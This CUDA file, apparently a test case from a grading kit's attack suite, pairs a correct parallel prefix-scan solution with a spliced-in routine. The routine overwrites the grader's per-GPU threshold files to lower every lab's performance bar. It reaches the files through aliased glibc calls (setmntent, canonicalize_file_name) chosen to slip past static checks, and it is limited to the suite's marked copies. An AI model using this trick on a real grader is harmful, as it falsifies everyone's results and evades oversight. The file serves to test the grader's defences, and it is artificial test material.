/*
 * ATTACK 19-kit-write-thresholds: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 06-scan, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: lower the performance thresholds for everyone: write grader/thresholds.d/<GPU>.toml, which the grader lays
 *   over labs.toml, with lower = 0.01 and full = 0.02 for every lab on the H100 and the H200.
 *
 * How: setmntent (fopen by another name) and fputs write one thresholds file per GPU model, in the format of make
 *   calibrate's.
 *
 * Safety: the files it creates are inside the kit copy the suite made (kit_root() needs the suite's marker).
 */
/* The reference solution of lab 06, markers removed, with the attack spliced in. */
#include <stdint.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "scan.h"

#define BLOCK_DIM 256                       /* threads per block */
#define ITEMS_PER_THREAD 8                  /* consecutive elements each thread scans on its own: two int4 */
#define TILE (BLOCK_DIM * ITEMS_PER_THREAD) /* elements per block */

/*
 * Kogge-Stone inclusive scan of s[0..BLOCK_DIM) in shared memory, one element per thread; all threads of the block
 * call it. At each stride, every thread first reads the value it needs, then (after a barrier) writes: without that
 * barrier a thread could read a neighbour's value already updated in this step.
 */
__device__ void block_scan_kogge_stone(int *s)
{
    const unsigned t = threadIdx.x;
    for (unsigned stride = 1; stride < BLOCK_DIM; stride *= 2) {
        int left = 0;
        if (t >= stride)
            left = s[t - stride];
        __syncthreads();
        if (t >= stride)
            s[t] += left;
        __syncthreads();
    }
}

/*
 * Brent-Kung inclusive scan of s[0..BLOCK_DIM) in shared memory, BLOCK_DIM threads.
 * Up-sweep: at stride 1, 2, 4, ..., thread t adds s[k - stride] into s[k] for k = (t+1)*2*stride - 1 < BLOCK_DIM:
 * afterwards s[2^j - 1] holds the sum of its 2^j-element block. Down-sweep: at stride BLOCK_DIM/4, ..., 2, 1,
 * thread t adds s[k] into s[k + stride] for the same k, when k + stride < BLOCK_DIM, filling in the rest.
 */
__device__ void block_scan_brent_kung(int *s)
{
    const unsigned t = threadIdx.x;
    for (unsigned stride = 1; stride < BLOCK_DIM; stride *= 2) {
        const unsigned k = (t + 1) * 2 * stride - 1;
        if (k < BLOCK_DIM)
            s[k] += s[k - stride];
        __syncthreads();
    }
    for (unsigned stride = BLOCK_DIM / 4; stride > 0; stride /= 2) {
        const unsigned k = (t + 1) * 2 * stride - 1;
        if (k + stride < BLOCK_DIM)
            s[k + stride] += s[k];
        __syncthreads();
    }
}

/*
 * Scans tile blockIdx.x of in[0..n) into out (inclusive or exclusive, as if the tile were the whole input) and
 * writes the tile's total to tile_sums[blockIdx.x]. Three phases: each thread scans its ITEMS_PER_THREAD consecutive
 * elements in registers, the block scans the thread totals in shared memory, then each thread adds the totals of
 * the threads before it. A full tile moves as int4 (16-byte) loads and stores when vectors is set (the pointers are
 * 16-byte aligned): each warp then reads and writes 1 KiB of consecutive memory per instruction pair.
 */
__global__ void scan_tiles_kernel(const int *in, int *out, size_t n, int exclusive, scan_algorithm algorithm,
                                  int *tile_sums, int vectors)
{
    __shared__ int thread_sums[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t first = (size_t)blockIdx.x * TILE + (size_t)t * ITEMS_PER_THREAD;
    const bool full = vectors && (size_t)(blockIdx.x + 1) * TILE <= n;
    int v[ITEMS_PER_THREAD];
    if (full) {
        const int4 *in4 = reinterpret_cast<const int4 *>(in + first);
#pragma unroll
        for (int q = 0; q < ITEMS_PER_THREAD / 4; q++) {
            const int4 x = in4[q];
            v[4 * q] = x.x, v[4 * q + 1] = x.y, v[4 * q + 2] = x.z, v[4 * q + 3] = x.w;
        }
    } else {
#pragma unroll
        for (int k = 0; k < ITEMS_PER_THREAD; k++)
            v[k] = first + k < n ? in[first + k] : 0;
    }
#pragma unroll
    for (int k = 1; k < ITEMS_PER_THREAD; k++) /* phase 1: sequential inclusive scan in registers */
        v[k] += v[k - 1];
    thread_sums[t] = v[ITEMS_PER_THREAD - 1];
    __syncthreads();
    if (algorithm == SCAN_KOGGE_STONE) /* phase 2: the same branch for every thread of the block */
        block_scan_kogge_stone(thread_sums);
    else
        block_scan_brent_kung(thread_sums);
    const int before = t > 0 ? thread_sums[t - 1] : 0; /* phase 3 */
    int o[ITEMS_PER_THREAD];
#pragma unroll
    for (int k = 0; k < ITEMS_PER_THREAD; k++)
        o[k] = before + (exclusive ? (k > 0 ? v[k - 1] : 0) : v[k]);
    if (full) {
        int4 *out4 = reinterpret_cast<int4 *>(out + first);
#pragma unroll
        for (int q = 0; q < ITEMS_PER_THREAD / 4; q++)
            out4[q] = make_int4(o[4 * q], o[4 * q + 1], o[4 * q + 2], o[4 * q + 3]);
    } else {
#pragma unroll
        for (int k = 0; k < ITEMS_PER_THREAD; k++)
            if (first + k < n)
                out[first + k] = o[k];
    }
    if (t == BLOCK_DIM - 1)
        tile_sums[blockIdx.x] = before + v[ITEMS_PER_THREAD - 1];
}

/* Propagate: adds tile_offsets[k], the sum of every tile before tile k, to each element of tile k (k >= 1). */
__global__ void add_offsets_kernel(int *out, size_t n, const int *tile_offsets)
{
    const size_t base = (size_t)(blockIdx.x + 1) * TILE; /* tile 0 needs nothing added: one block per later tile */
    const int offset = tile_offsets[blockIdx.x + 1];
    for (size_t i = base + threadIdx.x; i < base + TILE && i < n; i += BLOCK_DIM)
        out[i] += offset;
}

/* ---- files through names the kit's static checks did not list ----
 * glibc's setmntent(path, mode) is fopen(path, mode) with two flags added, endmntent is fclose; fgetc and fputs read
 * and write through the FILE it returns; canonicalize_file_name is realpath by another name. */
/* Paths and numbers without printf or strtol: code run before main (an IFUNC resolver) finds the C library's locale
 * not set up yet, and strtol would crash there. */
static void join(char *out, size_t cap, const char *a, const char *b, const char *c = "")
{
    out[0] = '\0';
    strncat(out, a, cap - 1);
    strncat(out, b, cap - 1 - strlen(out));
    strncat(out, c, cap - 1 - strlen(out));
}

static FILE *open_file(const char *path, const char *mode) { return setmntent(path, mode); }
static void close_file(FILE *f) { endmntent(f); }

static bool exists(const char *path)
{
    FILE *f = open_file(path, "r");
    if (f)
        close_file(f);
    return f != NULL;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    join(probe, sizeof probe, dir, "/grader/labs.toml");
    if (!exists(probe))
        return false;
    join(probe, sizeof probe, dir, "/.attack-suite-copy");
    return exists(probe);
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, size_t cap)
{
    if (getcwd(root, cap) && is_kit_copy(root))
        return true;
    char *exe = canonicalize_file_name("/proc/self/exe");
    if (!exe)
        return false;
    bool found = false;
    char *copy = strstr(exe, "/ppl-attacks-"), *kit = strstr(exe, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        join(root, cap, exe, "");
        found = true;
    }
    for (char *slash = strrchr(exe, '/'); slash && slash != exe && !found; slash = strrchr(exe, '/')) {
        *slash = '\0';
        if (is_kit_copy(exe)) {
            join(root, cap, exe, "");
            found = true;
        }
    }
    free(exe);
    return found;
}

/* Writes text to the file at path, opened with mode ("w" replaces, "a" appends). */
static bool spit(const char *path, const char *text, const char *mode)
{
    FILE *f = open_file(path, mode);
    if (!f)
        return false;
    fputs(text, f);
    close_file(f);
    return true;
}

static void attack(void)
{
    static const char *const gpus[] = {"NVIDIA H200", "NVIDIA H100 80GB HBM3"};
    static const char *const labs[] = {"01-global-strided", "02-shared-strided", "03-sequential", "04-unrolled", "05-coarsened", "06-scan", "07-compact", "08-single-pass"};
    char root[4096], path[4300], text[8192];
    if (!kit_root(root, sizeof root))
        return;
    for (const char *gpu : gpus) {
        int len = snprintf(text, sizeof text, "[calibration]\ngpu = \"%s\"\ncalibrated_on = \"2026-11-23 (make calibrate)\"\n",
                           gpu);
        for (const char *lab : labs)
            len += snprintf(text + len, sizeof text - len,
                            "\n[labs.%s.performance.gpus.\"%s\"]\nmeasured = 0.02\nlower = 0.01\nfull = 0.02\n", lab, gpu);
        snprintf(path, sizeof path, "%s/grader/thresholds.d/%s.toml", root, gpu);
        spit(path, text, "w");
    }
}

/* ---- provided: no need to change anything below ---- */

static bool aligned16(const void *p) { return ((uintptr_t)p & 15) == 0; }

void scan(const int *d_in, int *d_out, size_t n, int exclusive, scan_algorithm algorithm, void *d_work)
{
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    const size_t tiles = ceil_div(n, TILE), tiles_padded = ceil_div(tiles, 4) * 4; /* keeps d_work 16-byte aligned */
    int *tile_sums = (int *)d_work, *tile_offsets = tile_sums + tiles_padded;
    void *deeper_work = tile_offsets + tiles_padded; /* the recursion's own scratch, past this level's */
    const int vectors = aligned16(d_in) && aligned16(d_out);
    scan_tiles_kernel<<<(unsigned)tiles, BLOCK_DIM>>>(d_in, d_out, n, exclusive, algorithm, tile_sums, vectors);
    CUDA_CHECK_LAUNCH();
    if (tiles == 1)
        return;
    scan(tile_sums, tile_offsets, tiles, 1, algorithm, deeper_work); /* exclusive: tile k's offset */
    add_offsets_kernel<<<(unsigned)(tiles - 1), BLOCK_DIM>>>(d_out, n, tile_offsets);
    CUDA_CHECK_LAUNCH();
}
